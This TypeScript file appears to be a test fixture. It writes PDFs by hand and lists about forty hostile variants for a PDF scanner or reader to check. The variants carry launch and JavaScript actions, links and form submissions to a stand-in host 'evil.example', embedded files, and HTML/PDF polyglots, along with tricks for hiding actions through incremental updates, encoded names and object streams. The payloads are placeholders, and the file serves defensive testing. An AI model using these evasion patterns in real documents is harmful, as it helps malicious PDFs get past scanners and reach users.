/** The parts of a PDF as a text: what is added to its catalogue and its page, and what comes with them. */
export interface WrittenPdf {
  readonly version?: string;
  readonly catalog?: string;
  readonly page?: string;
  /** What the page draws. */
  readonly contents?: string;
  readonly resources?: string;
  /** Objects from number 10 on. */
  readonly objects?: readonly string[];
  readonly trailer?: string;
  /** Comes behind the end. */
  readonly behind?: string;
}

/** Writes a stream as the object of a PDF. */
export const writeStream = (dict: string, bytes: string) =>
  `<<${dict}/Length ${bytes.length}>>\nstream\n${bytes}\nendstream`;

const writeObject = (number: number, text: string) => `${number} 0 obj\n${text}\nendobj\n`;

/** Writes a PDF of one page by hand, as no library would: each byte is a character. */
export function writePdf({
  version = "1.7",
  catalog = "",
  page = "",
  contents = "BT /F1 12 Tf 20 40 Td (I authorise the bearer.) Tj ET",
  resources = "",
  objects = [],
  trailer = "",
  behind = "",
}: WrittenPdf = {}): string {
  const numbered: [number, string][] = [
    [1, `<</Type/Catalog/Pages 2 0 R${catalog}>>`],
    [2, "<</Type/Pages/Kids[3 0 R]/Count 1/MediaBox[0 0 300 200]>>"],
    [3, `<</Type/Page/Parent 2 0 R/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>${resources}>>${page}>>`],
    [4, writeStream("", contents)],
    [5, "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"],
    ...objects.map((text, at): [number, string] => [10 + at, text]),
  ];
  let file = `%PDF-${version}\n`;
  const places = numbered.map(([number, text]) => {
    const place = file.length;
    file += writeObject(number, text);
    return `${number} 1\n${String(place).padStart(10, "0")} 00000 n \n`;
  });
  const start = file.length;
  return `${file}xref\n0 1\n0000000000 65535 f \n${places.join("")}trailer\n<</Size 40/Root 1 0 R${trailer}>>\nstartxref\n${start}\n%%EOF\n${behind}`;
}

/** Puts objects behind the end of a PDF, in the place of those with their numbers. */
function update(file: string, objects: readonly (readonly [number, string])[]): string {
  const before = /startxref\n(\d+)\n%%EOF\n$/.exec(file)?.[1];
  let longer = file;
  const places = objects.map(([number, text]) => {
    const place = longer.length;
    longer += writeObject(number, text);
    return `${number} 1\n${String(place).padStart(10, "0")} 00000 n \n`;
  });
  return `${longer}xref\n${places.join("")}trailer\n<</Size 40/Root 1 0 R/Prev ${before}>>\nstartxref\n${longer.length}\n%%EOF\n`;
}

const script = "<</S/JavaScript/JS(evil\\(\\))>>";
const leadTo = "<</S/URI/URI(https://evil.example)>>";
const annotation = (subtype: string, more: string) =>
  `/Annots[<</Type/Annot/Subtype/${subtype}/Rect[0 0 90 90]${more}>>]`;
const picture = "/Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray";
const emptyPages = "<</Type/Catalog/Pages 2 0 R>>";

/** An action in the bytes of a stream, to which the table of places leads all the same. */
function hideInStream(): string {
  const hidden = "20 0 obj\n<</S/Launch/F(evil.exe)>>\nendobj\n";
  const file = writePdf({ catalog: "/OpenAction 20 0 R", objects: [writeStream("", hidden)] });
  const place = String(file.indexOf("20 0 obj\n")).padStart(10, "0");
  return file.replace("trailer\n", `20 1\n${place} 00000 n \ntrailer\n`);
}

function pack(objects: string, first: number, count: number): string {
  return writeStream(`/Type/ObjStm/N ${count}/First ${first}`, objects);
}

/**
 * PDFs that do more than be read, each with the word "evil" in what they do. Readers find their way through some of them
 * otherwise than our own does.
 */
export const hostilePdfs: Readonly<Record<string, string>> = {
  "a script that a later part of the file takes away": update(
    writePdf({ catalog: "/OpenAction 10 0 R", objects: [script] }),
    [[1, emptyPages]],
  ),
  "a script that a later part of the file brings": update(writePdf(), [
    [1, `<</Type/Catalog/Pages 2 0 R/OpenAction${script}>>`],
  ]),
  "a link in a page that is defined twice": update(writePdf({ page: annotation("Link", `/A${leadTo}`) }), [
    [3, "<</Type/Page/Parent 2 0 R/Contents 4 0 R/AA<</O<</S/URI/URI(https://evil.example/2)>>>>>>"],
  ]),
  "an action whose name is an object of its own": writePdf({
    catalog: "/OpenAction<</S 10 0 R/F(evil.exe)>>",
    objects: ["/Launch"],
  }),
  "a program to start, its name in numbers": writePdf({
    catalog: "/OpenAction<</S/#4c#61unch/Win<</F(evil.exe)>>>>",
  }),
  "an action in a table of places that leads into a stream": hideInStream(),
  "an action in packed objects": writePdf({
    catalog: "/OpenAction 20 0 R",
    objects: [pack("20 0 <</S/Launch/F(evil.exe)>>", 5, 1)],
  }),
  "an action behind another one": writePdf({
    catalog: "/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<</S/URI/URI(https://evil.example)>>]>>",
  }),
  "a file inside it that is not said to be one": writePdf({
    catalog: "/Names<</Embedded#46iles<</Names[(a)<</F(evil.exe)/EF<</F 10 0 R>>>>]>>>>",
    objects: [writeStream("", "MZ evil")],
  }),
  "a file that belongs to a page": writePdf({
    page: "/AF[<</F(evil.exe)/EF<</F 10 0 R>>>>]",
    objects: [writeStream("", "MZ evil")],
  }),
  "a file on a pin": writePdf({
    page: annotation("FileAttachment", "/FS<</F(evil.exe)/EF<</F 10 0 R>>>>"),
    objects: [writeStream("", "MZ evil")],
  }),
  "a portfolio": writePdf({ catalog: "/Collection<</View/T/D(evil.pdf)>>" }),
  "a picture whose bytes are in another file": writePdf({
    contents: "/X Do",
    resources: "/XObject<</X 10 0 R>>",
    objects: [writeStream(`${picture}/F(\\\\\\\\evil.example\\\\a)`, "")],
  }),
  "a stream that is unpacked as another file says": writePdf({
    contents: "/X Do",
    resources: "/XObject<</X 10 0 R>>",
    objects: [writeStream(`${picture}/FS/URL/FFilter/FlateDecode/F(https://evil.example)`, "")],
  }),
  "another picture in the place of one": writePdf({
    contents: "/X Do",
    resources: "/XObject<</X 10 0 R>>",
    objects: [
      writeStream(`${picture}/Alternates[<</Image 11 0 R/DefaultForPrinting true>>]/OPI<</F(evil)>>`, "x"),
      writeStream(`${picture}/Evil true`, "evil"),
    ],
  }),
  "a page of another file in its place": writePdf({
    contents: "/X Do",
    resources: "/XObject<</X 10 0 R>>",
    objects: [writeStream("/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(evil.pdf)/Page 0>>", "")],
  }),
  "a program for printers": writePdf({
    contents: "/X Do",
    resources: "/XObject<</X 10 0 R>>",
    objects: [
      writeStream("/Type/XObject/Subtype/Form/BBox[0 0 9 9]/PS 11 0 R", ""),
      writeStream("", "evil exec"),
    ],
  }),
  "a link to an address": writePdf({ page: annotation("Link", `/A${leadTo}`) }),
  "a link in an object of its own": writePdf({
    page: "/Annots 10 0 R",
    objects: [
      "[11 0 R]",
      "<</Subtype/Link/Rect[0 0 9 9]/A 12 0 R>>",
      "<</S 13 0 R/URI(https://evil.example)>>",
      "/URI",
    ],
  }),
  "an address from which all links begin": writePdf({ catalog: "/URI<</Base(https://evil.example)>>" }),
  "a link to another file": writePdf({ page: annotation("Link", "/A<</S/GoToR/F(evil.pdf)/D[0/Fit]>>") }),
  "a link into a file inside it": writePdf({ page: annotation("Link", "/PA<</S/GoToE/D(evil)>>") }),
  "an action when a page is opened": writePdf({ page: `/AA<</O${leadTo}>>` }),
  "a printer that starts when it is opened": writePdf({
    catalog: "/OpenAction<</S/Named/N/Print/Evil(evil)>>",
  }),
  "an outline that leads away": writePdf({
    catalog: "/Outlines<</First 10 0 R/Last 10 0 R/Count 1>>",
    objects: [`<</Title(evil)/A${leadTo}>>`],
  }),
  "scripts by name": writePdf({ catalog: `/Names<</JavaScript<</Names[(a)${script}]>>>>` }),
  "a button that sends": writePdf({
    catalog: "/AcroForm<</Fields[10 0 R]>>",
    page: "/Annots[10 0 R]",
    objects: ["<</Subtype/Widget/FT/Btn/T(evil)/Rect[0 0 9 9]/A<</S/SubmitForm/F(https://evil.example)>>>>"],
  }),
  "a field that calculates": writePdf({
    catalog: "/AcroForm<</Fields[10 0 R]/CO[10 0 R]>>",
    page: "/Annots[10 0 R]",
    objects: [`<</Subtype/Widget/FT/Tx/T(evil)/Rect[0 0 9 9]/AA<</K${script}>>>>`],
  }),
  "a form in XML": writePdf({
    catalog: "/AcroForm<</Fields[]/XFA 10 0 R>>",
    objects: [writeStream("", "<xdp><script>evil</script></xdp>")],
  }),
  "a film": writePdf({ page: annotation("Movie", "/Movie<</F(evil.avi)>>/A true") }),
  "a sound": writePdf({
    page: annotation("Sound", "/Sound 10 0 R"),
    objects: [writeStream("/R 8000", "evil")],
  }),
  "rich media": writePdf({ page: annotation("RichMedia", "/RichMediaContent<</Assets(evil.swf)>>") }),
  "a screen": writePdf({ page: annotation("Screen", "/A<</S/Rendition/OP 0/R<</C<</D(evil)>>>>>>") }),
  "a model with a script": writePdf({
    page: annotation("3D", "/3DD 10 0 R"),
    objects: [writeStream("/Type/3D/Subtype/U3D/OnInstantiate 11 0 R", "evil"), writeStream("", "evil()")],
  }),
  metadata: writePdf({
    catalog: "/Metadata 10 0 R",
    page: "/Metadata 10 0 R/PieceInfo<</Evil<</Private(evil)>>>>",
    objects: [writeStream("/Type/Metadata/Subtype/XML", "<x:xmpmeta>evil</x:xmpmeta>")],
    trailer: "/Info<</Author(evil)>>",
  }),
  "structure and threads": writePdf({
    catalog: "/StructTreeRoot<</K<</S/P/Alt(evil)>>>>/Threads[<</I<</Title(evil)>>>>]",
    page: "/B[10 0 R]/StructParents 0",
    objects: ["<</T(evil)/P 3 0 R>>"],
  }),
  layers: writePdf({
    catalog: "/OCProperties<</OCGs[10 0 R]/D<</AS[<</Event/View>>]>>>>",
    resources: "/Properties<</MC0 10 0 R>>",
    objects: ["<</Type/OCG/Name(evil)>>"],
  }),
  "an action among the letters": writePdf({
    resources: "/Pattern<</X<</S/URI/URI(https://evil.example)/Next<</JS(evil)>>>>>>",
  }),
  "a program in what nobody refers to": writePdf({
    objects: ["<</S/Named/N(evil)>>", writeStream("", "<script>evil()</script>")],
  }),
  "a page in HTML between its objects": writePdf().replace("4 0 obj", "<script>evil()</script>\n4 0 obj"),
  "a page in HTML in a remark": writePdf().replace("4 0 obj", "% <script>evil()</script>\n4 0 obj"),
  "a page in HTML behind its end": writePdf({ behind: "<script src=//evil.example></script>" }),
  "a page in HTML before its beginning": `<script>evil()</script>\n${writePdf()}`,
  "a page in HTML in place of a remark on its first line": writePdf().replace(
    "\n",
    "\n%<script>evil()</script>\n",
  ),
};
